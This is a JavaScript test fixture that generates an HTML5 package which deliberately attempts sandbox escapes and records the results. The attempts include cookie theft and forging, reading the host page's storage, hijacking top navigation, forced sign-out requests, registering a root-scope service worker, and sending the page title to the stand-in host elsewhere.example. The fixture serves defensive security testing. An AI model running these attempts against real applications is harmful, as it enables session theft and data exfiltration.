/**
 * A plain HTML5 package that tries what a hostile one would: cookies, the API, the app's storage, the page around it,
 * top navigation, forms, addresses elsewhere, sockets, workers. What each attempt came to is in `window.outcome`;
 * `window.finished` is true at the end. `app` is the app's origin.
 */
export function hostilePackage(app) {
  return {
    "index.html": `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile package</title>
<style>body { color: rgb(1, 2, 3) }</style><script src="js/attempts.js"></script></head>
<body onload="run(${JSON.stringify(app).replaceAll('"', "&quot;")})"><h1>Hostile package</h1><img id="outside" alt=""></body></html>`,
    "js/attempts.js": ATTEMPTS,
    "js/worker.js": "onmessage = () => undefined;",
  };
}

const ATTEMPTS = `
var outcome = {}, violations = [];
window.outcome = outcome;
window.violations = violations;
document.addEventListener("securitypolicyviolation", function (event) { violations.push(event.effectiveDirective + " " + event.blockedURI); });

/** Notes what fn gives, or the name of what it throws. */
function note(name, fn) { try { outcome[name] = String(fn()); } catch (error) { outcome[name] = error.name; } }
function ask(name, address, options) {
  return fetch(address, options).then(function (answer) { return answer.text().then(function (text) { outcome[name] = answer.status + " " + text.slice(0, 60); }); }, function (error) { outcome[name] = error.name; });
}
function socket(name, address) {
  return new Promise(function (done) {
    var wire;
    try { wire = new WebSocket(address); } catch (error) { outcome[name] = error.name; return done(); }
    wire.onopen = function () { outcome[name] = "open"; done(); };
    wire.onerror = wire.onclose = function () { outcome[name] = outcome[name] || "refused"; done(); };
  });
}
function form(address) {
  var sink = document.createElement("iframe"), sent = document.createElement("form");
  sink.name = "sink";
  sent.target = "sink";
  sent.method = "post";
  sent.action = address;
  document.body.append(sink, sent);
  sent.submit();
  return "sent";
}
function frame(address) {
  return new Promise(function (done) {
    var inner = document.createElement("iframe");
    inner.onload = function () { note("framed_app", function () { return inner.contentDocument.title; }); done(); };
    inner.src = address;
    document.body.append(inner);
    setTimeout(done, 2000);
  });
}

async function run(app) {
  note("own_script", function () { return "ran"; });
  note("eval", function () { return eval("40 + 2"); });
  note("cookie", function () { return document.cookie || "none"; });
  note("set_cookie", function () { document.cookie = "__Host-sid=stolen; Path=/; Secure"; return "tried"; });
  // The window around it is our player, of the same origin; the app is the one at the top.
  note("top_document", function () { return window.top.document.cookie; });
  note("top_storage", function () { return window.top.localStorage.getItem("mc.secret"); });
  note("top_address", function () { return window.top.location.href; });
  note("own_storage", function () { return localStorage.getItem("mc.secret"); });
  note("top_navigation", function () { window.top.location.href = "about:blank#taken"; return "navigated"; });
  note("top_open", function () { window.open("about:blank#taken", "_top"); return "asked"; });
  note("top_reload", function () { window.top.location.reload(); return "reloaded"; });
  await ask("api_at_app", app + "/api/v1/me", { credentials: "include" });
  await ask("api_at_app_blind", app + "/api/v1/auth/sign-out", { method: "POST", mode: "no-cors", credentials: "include" });
  await ask("api_at_content", "/api/v1/me", { credentials: "include" });
  await ask("app_pages_at_content", "/");
  await ask("elsewhere", "https://elsewhere.example/collect", { mode: "no-cors" });
  await ask("foreign_token", "/t/AAAAAAAAAAAAAAAAAAAAAA/c/index.html");
  await socket("socket_at_app", app.replace("https:", "wss:") + "/api/v1/live");
  await socket("socket_at_content", location.origin.replace("https:", "wss:") + "/api/v1/live");
  document.getElementById("outside").src = "https://elsewhere.example/pixel.png?" + encodeURIComponent(document.title);
  note("form", function () { return form(app + "/api/v1/auth/sign-out"); });
  await frame(app + "/");
  await new Promise(function (done) {
    if (!navigator.serviceWorker) { outcome.worker_at_root = "none"; return done(); }
    navigator.serviceWorker.register("js/worker.js", { scope: "/" }).then(function () { outcome.worker_at_root = "registered"; done(); }, function (error) { outcome.worker_at_root = error.name; done(); });
  });
  navigator.sendBeacon && note("beacon", function () { return navigator.sendBeacon(app + "/api/v1/auth/sign-out", "x"); });
  await new Promise(function (done) { setTimeout(done, 500); });
  window.finished = true;
}
`;
